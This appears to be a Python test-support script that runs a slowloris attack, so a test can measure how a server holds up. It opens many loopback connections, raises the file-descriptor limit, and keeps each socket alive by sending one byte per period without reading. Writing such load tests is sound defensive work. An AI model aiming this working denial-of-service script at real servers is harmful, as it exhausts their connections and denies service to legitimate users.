"""`python -m tests.support.slowloris HOST PORT COUNT`: connections that send a byte now and then.

An attack for a process of its own, so that what it costs is not taken for what it does to others.
It prints `connected` once all its connections are there, then sends a byte on each of them every
`PERIOD_S`, never reads, and prints `round N` whenever all have sent theirs. When its standard input
ends it prints how many were lost, and ends.
"""

import contextlib
import resource
import select
import socket
import sys
import time

PERIOD_S = 1.0
_TIMEOUT_S = 20
_BURST = 50  # bytes sent between two looks at the clock


def _connect(host: str, port: int, number: int) -> socket.socket:
    """From one of several loopback addresses: one has ports for 28,000 only."""
    made = socket.socket()
    made.settimeout(_TIMEOUT_S)
    made.bind((f"127.0.0.{2 + number % 16}", 0))
    made.connect((host, port))
    made.setblocking(False)
    return made


def _say(word: str) -> None:
    sys.stdout.write(word + "\n")
    sys.stdout.flush()


def drip(socks: list[socket.socket]) -> int:
    """Send a byte on each, round after round, until standard input ends; how many were lost."""
    lost: set[int] = set()
    begun_s = time.monotonic()
    pause_s = PERIOD_S * _BURST / len(socks)
    round_number = burst = 0
    while True:
        round_number += 1
        for first in range(0, len(socks), _BURST):
            burst += 1
            wait_s = max(0.0, begun_s + burst * pause_s - time.monotonic())
            if select.select([sys.stdin], [], [], wait_s)[0]:
                return len(lost)
            for number, sock in enumerate(socks[first : first + _BURST], first):
                try:
                    sock.send(b"z")
                except OSError:
                    lost.add(number)
        _say(f"round {round_number}")


def main() -> None:
    """Attack."""
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    with contextlib.ExitStack() as stack:
        socks = [stack.enter_context(_connect(host, port, number)) for number in range(count)]
        _say("connected")
        _say(str(drip(socks)))


if __name__ == "__main__":
    main()
